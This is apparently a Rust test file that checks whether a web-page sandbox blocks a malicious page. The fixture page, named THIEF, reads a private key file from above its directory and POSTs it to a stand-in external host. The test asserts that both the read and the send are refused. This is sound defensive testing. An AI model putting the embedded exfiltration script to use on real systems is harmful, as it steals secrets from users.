//! Safe to point at a stranger's page: what it cannot read, and where it cannot send it.

use super::home::Home;

/// A page that reads a file above it and sends what it finds elsewhere.
const THIEF: &str = r#"<title>Thief</title><script src="../lib.js"></script><p id="found">nothing</p>
<script>
const send = text => fetch('https://other.invalid/', { method: 'POST', mode: 'no-cors', body: text }).catch(() => {});
fetch('../private/key').then(it => it.ok ? it.text() : '').then(text => { if (text) found.textContent = text; return send(text) });
</script>"#;

#[test]
fn a_page_reads_nothing_above_it_and_sends_nothing_elsewhere() {
    let home = Home::new();
    for directory in ["private", "app"] {
        std::fs::create_dir(home.path(directory)).unwrap();
    }
    std::fs::write(home.path("private/key"), "the key").unwrap();
    std::fs::write(home.path("lib.js"), "").unwrap();
    std::fs::write(home.path("app/index.html"), THIEF).unwrap();
    let device = format!("web:{}", home.path("app").display());
    let page = format!("{device}/index.html");
    let trace = "check a = assert !isDisplayed(\"the key\")";
    for device in [&device, &page] {
        let ran = home.done(home.run(trace, device, &[]));
        ran.expect(
            0,
            &[
                "the device lacked ../lib.js: ",
                "root=",
                "the device lacked https://other.invalid: ",
                "allow=https://other.invalid",
            ],
        );
        let ran = home.done(home.check(trace, device, &["--cases", "3"]));
        ran.expect(0, &["the device lacked https://other.invalid in 3"]);
    }
    // Who asks for more has more.
    let root = format!("root={}", home.path("").display());
    let ran = home.done(home.run(trace, &page, &["--with", &root]));
    ran.expect(1, &["the device lacked https://other.invalid"]);
    for (root, words) in [("/", "is never served"), ("/etc", "a directory that the page is in")] {
        let ran = home.done(home.run(trace, &page, &["--with", &format!("root={root}")]));
        ran.expect(3, &["cannot be started", words]);
    }
}
